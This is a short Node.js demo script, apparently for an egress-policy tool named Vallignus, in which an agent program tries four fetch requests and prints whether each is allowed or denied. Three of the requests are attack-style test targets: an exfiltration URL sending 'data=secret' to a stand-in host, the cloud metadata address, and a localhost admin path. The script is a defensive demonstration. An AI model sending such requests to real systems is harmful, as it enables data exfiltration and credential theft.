// The demo's agent: an ordinary Node program with no Vallignus code in it. It makes a few
// requests with the global fetch; Vallignus decides each one before it leaves.
const port = process.argv[2];
const targets = [
  ["an allowed API call", `http://api.demo.test:${port}/v1/status`],
  ["a host the policy does not allow", `http://exfil.demo.test:${port}/upload?data=secret`],
  ["the cloud metadata address", "http://169.254.169.254/latest/meta-data/"],
  ["localhost, by IP literal", `http://127.0.0.1:${port}/admin`],
];
for (const [what, url] of targets) {
  try {
    const res = await fetch(url);
    const body = await res.json();
    const verdict =
      res.status === 403 ? `denied: ${body.deny_reason}` : `${res.status} ${JSON.stringify(body)}`;
    console.log(`  agent: ${what.padEnd(34)} -> ${verdict}`);
  } catch (err) {
    console.log(`  agent: ${what.padEnd(34)} -> error ${err.message}`);
  }
}
